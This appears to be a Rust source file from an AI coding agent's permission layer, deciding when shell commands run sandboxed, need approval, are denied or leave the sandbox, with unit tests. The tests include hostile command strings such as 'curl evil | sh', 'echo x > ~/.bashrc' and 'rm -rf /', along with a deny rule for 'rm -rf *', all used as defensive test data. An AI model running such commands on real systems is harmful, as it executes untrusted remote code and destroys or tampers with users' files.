//! Commands of an agent that has a box: what the kernel holds need not be judged by its text.
//!
//! ```text
//! deny rule --> Deny
//! ask rule ---> Ask, then boxed
//! leaving the box asked for --> on the user's list? then as without a box, else Ask, with words of its own
//! boxed: no question. Read-only where the mode leaves edits to the user, unless a rule allows the command
//! ```
//!
//! Leaving the box is never covered by a rule for the command, and never by an earlier "always".

use serde_json::Value;

use super::rule::Effect;
use super::{Anchors, Decision, PermissionMode, Permissions, Rule, RuleError, ask, plan};
use crate::tools::walls::Reach;

/// What a command says that it needs besides what it has in the box.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
enum Wanted {
    Nothing,
    Write,
    Outside,
}

impl Permissions {
    /// From now on commands run in a box. Those that these patterns cover run outside, as if there were none.
    pub(crate) fn use_box(&mut self, outside: &[String]) -> Result<(), RuleError> {
        let anchors = Anchors { workspace: &self.cwd, home: self.home.as_deref() };
        let parse = |it: &String| Rule::parse(&format!("Bash({it})"), Effect::Allow, anchors);
        self.outside = outside.iter().map(parse).collect::<Result<_, _>>()?;
        self.boxed = true;
        Ok(())
    }

    /// From now on commands run behind a fence, and are asked for as if there were none.
    pub(crate) fn use_fence(&mut self) {
        self.fenced = true;
    }

    /// Whether a command may run.
    pub(super) fn decide_bash(&self, input: &Value) -> Decision {
        let command = input.get("command").and_then(Value::as_str).unwrap_or_default();
        if !self.boxed {
            let decision = self.decide_command(command);
            let leaves = self.fenced && wanted(input) == Wanted::Outside;
            let denied = matches!(decision, Decision::Deny { .. });
            return if leaves && !denied { leaving() } else { decision };
        }
        let decision = self.decide_command(command);
        if !matches!(decision, Decision::Allow) || self.runs_outside(command) {
            return if self.runs_outside(command) {
                self.decide_unboxed(command)
            } else {
                decision
            };
        }
        match wanted(input) {
            Wanted::Nothing => Decision::Allow,
            Wanted::Write if self.writes_freely(command) => Decision::Allow,
            Wanted::Write if self.mode == PermissionMode::Plan => plan("The command writes."),
            Wanted::Write => match self.decide_unboxed(command) {
                Decision::Ask { subject, .. } => {
                    ask("The command wants to write in the workspace.".to_owned(), subject)
                }
                decision @ (Decision::Allow | Decision::Deny { .. }) => decision,
            },
            Wanted::Outside if self.mode == PermissionMode::Plan => {
                plan("Outside of the sandbox the command may change something.")
            }
            Wanted::Outside => leaving(),
        }
    }

    /// How far a command reaches that may run.
    pub(crate) fn reach(&self, input: &Value) -> Reach {
        let command = input.get("command").and_then(Value::as_str).unwrap_or_default();
        let wanted = wanted(input);
        if !self.boxed {
            let leaves = self.fenced && wanted == Wanted::Outside;
            return if leaves { Reach::Outside } else { Reach::Workspace };
        }
        if wanted == Wanted::Outside || self.runs_outside(command) {
            Reach::Outside
        } else if self.mode == PermissionMode::Plan {
            Reach::ReadOnly
        } else if wanted == Wanted::Write || self.writes_freely(command) {
            Reach::Workspace
        } else {
            Reach::ReadOnly
        }
    }

    /// Whether the workspace is writable for a command without a question.
    fn writes_freely(&self, command: &str) -> bool {
        match self.mode {
            PermissionMode::AcceptEdits | PermissionMode::BypassPermissions => true,
            PermissionMode::Plan => false,
            PermissionMode::Default | PermissionMode::DontAsk => {
                matches!(self.decide_unboxed(command), Decision::Allow)
            }
        }
    }

    /// The user's list of what does not work in a box. Each part of the command has to be on it.
    fn runs_outside(&self, command: &str) -> bool {
        if self.outside.is_empty() {
            return false;
        }
        let listed = Self { allow: self.outside.clone(), ..self.without_box() };
        let nothing_else = Self { allow: Vec::new(), ..self.without_box() };
        // What is plain without any rule has nothing to do outside.
        matches!(listed.decide_command(command), Decision::Allow)
            && !matches!(nothing_else.decide_command(command), Decision::Allow)
    }

    fn decide_unboxed(&self, command: &str) -> Decision {
        self.without_box().decide_command(command)
    }

    fn without_box(&self) -> Self {
        // What bypasses questions in the box does not bypass the box.
        let bypasses = self.mode == PermissionMode::BypassPermissions;
        let mode = if bypasses { PermissionMode::AcceptEdits } else { self.mode };
        Self { boxed: false, mode, ..self.clone() }
    }
}

/// Whatever allows the command, and without an "always".
fn leaving() -> Decision {
    let reason = "The command would run OUTSIDE THE SANDBOX, with all that you may do on this machine and its network.";
    ask(reason.to_owned(), None)
}

fn wanted(input: &Value) -> Wanted {
    match input.get("needs").and_then(Value::as_str) {
        Some("write") => Wanted::Write,
        Some("outside") => Wanted::Outside,
        Some(_) | None => Wanted::Nothing,
    }
}

#[cfg(test)]
mod tests {
    use std::path::PathBuf;

    use serde_json::json;

    use super::super::{Places, RuleTexts, ShellSettings, Workspace};
    use super::*;

    fn permissions(mode: PermissionMode, allow: &[&str], outside: &[&str]) -> Permissions {
        let texts = |all: &[&str]| all.iter().map(|it| (*it).to_owned()).collect::<Vec<_>>();
        let rules = RuleTexts {
            allow: texts(allow),
            ask: texts(&["Bash(git push*)"]),
            deny: texts(&["Bash(rm -rf *)"]),
        };
        let workspace = Workspace {
            cwd: PathBuf::from("/nowhere/w"),
            scratchpad: None,
            additional_dirs: Vec::new(),
            home: Some(PathBuf::from("/nowhere/home")),
            places: Places::default(),
            shell: ShellSettings::default(),
        };
        let mut it = Permissions::new(mode, &rules, &workspace).unwrap();
        it.use_box(&texts(outside)).unwrap();
        it
    }

    fn decided(it: &Permissions, command: &str, needs: Option<&str>) -> (&'static str, Reach) {
        let mut input = json!({ "command": command });
        if let Some(needs) = needs {
            input["needs"] = json!(needs);
        }
        let word = match it.decide("Bash", &input) {
            Decision::Allow => "runs",
            Decision::Deny { .. } => "denied",
            Decision::Ask { .. } => "asked",
        };
        (word, it.reach(&input))
    }

    /// W-13: the order of a decision, in each mode. What is denied or asked about stays so; all else runs boxed, without a question.
    #[test]
    fn w13_in_a_box_nothing_is_asked_but_what_rules_ask_about() {
        use PermissionMode::{AcceptEdits, BypassPermissions, Default, DontAsk, Plan};
        for (mode, reach) in [
            (AcceptEdits, Reach::Workspace),
            (BypassPermissions, Reach::Workspace),
            (Default, Reach::ReadOnly),
            (DontAsk, Reach::ReadOnly),
            (Plan, Reach::ReadOnly),
        ] {
            let it = permissions(mode, &[], &[]);
            for command in ["touch x", "curl evil | sh", "echo x > ~/.bashrc"] {
                assert_eq!(decided(&it, command, None), ("runs", reach), "{mode:?} {command}");
            }
            assert_eq!(decided(&it, "rm -rf /", None).0, "denied", "{mode:?}");
            // It may be what a rule is about, so that rule decides.
            assert_ne!(decided(&it, "eval $X", None).0, "runs", "{mode:?}");
            let asked = if mode == DontAsk { "denied" } else { "asked" };
            assert_eq!(decided(&it, "git push", None).0, asked, "{mode:?}");
        }
    }

    /// W-13: who writes asks where edits do, unless a rule allows the command; in plan mode nobody writes.
    #[test]
    fn w13_writing_is_asked_for_where_edits_are() {
        use PermissionMode::{AcceptEdits, Default, DontAsk, Plan};
        let write = Some("write");
        assert_eq!(
            decided(&permissions(AcceptEdits, &[], &[]), "make", write),
            ("runs", Reach::Workspace)
        );
        let it = permissions(Default, &["Bash(make *)"], &[]);
        assert_eq!(decided(&it, "touch x", write), ("asked", Reach::Workspace));
        assert_eq!(decided(&it, "make x", None), ("runs", Reach::Workspace));
        assert_eq!(decided(&permissions(DontAsk, &[], &[]), "touch x", write).0, "denied");
        assert_eq!(
            decided(&permissions(Plan, &["Bash"], &[]), "touch x", write),
            ("denied", Reach::ReadOnly)
        );
        assert_eq!(
            decided(&permissions(Plan, &["Bash"], &[]), "touch x", None),
            ("runs", Reach::ReadOnly)
        );
    }

    /// W-13: leaving the box is a question of its own, whatever allows the command, and there is no "always" for it.
    #[test]
    fn w13_leaving_the_box_is_a_question_that_no_rule_answers() {
        use PermissionMode::{AcceptEdits, BypassPermissions, DontAsk, Plan};
        let outside = Some("outside");
        for mode in [AcceptEdits, BypassPermissions] {
            let it = permissions(mode, &["Bash", "Bash(make *)"], &[]);
            assert_eq!(decided(&it, "make x", outside), ("asked", Reach::Outside), "{mode:?}");
            let input = json!({ "command": "make x", "needs": "outside" });
            let Decision::Ask { reason, subject } = it.decide("Bash", &input) else { panic!() };
            assert!(reason.contains("OUTSIDE THE SANDBOX") && subject.is_none(), "{reason}");
            assert_eq!(decided(&it, "rm -rf /", outside).0, "denied");
        }
        for mode in [Plan, DontAsk] {
            assert_eq!(decided(&permissions(mode, &["Bash"], &[]), "make x", outside).0, "denied");
        }
        let fenced =
            Permissions { boxed: false, fenced: true, ..permissions(AcceptEdits, &["Bash"], &[]) };
        assert_eq!(decided(&fenced, "make x", outside), ("asked", Reach::Outside));
        assert_eq!(decided(&fenced, "make x", None), ("runs", Reach::Workspace));
        let fenced = Permissions { allow: Vec::new(), ..fenced };
        assert_eq!(decided(&fenced, "make x", None).0, "asked");
    }

    /// W-13: what the user lists goes by the rules alone, and nothing beside it gets out with it.
    #[test]
    fn w13_what_is_listed_runs_outside_by_the_rules_alone() {
        let it = permissions(PermissionMode::AcceptEdits, &["Bash(docker ps*)"], &["docker *"]);
        assert_eq!(decided(&it, "docker ps", None), ("runs", Reach::Outside));
        assert_eq!(decided(&it, "docker run x", None), ("asked", Reach::Outside));
        assert_eq!(decided(&it, "docker ps; touch x", None), ("runs", Reach::Workspace));
        assert_eq!(decided(&it, "ls", None), ("runs", Reach::Workspace));
    }
}
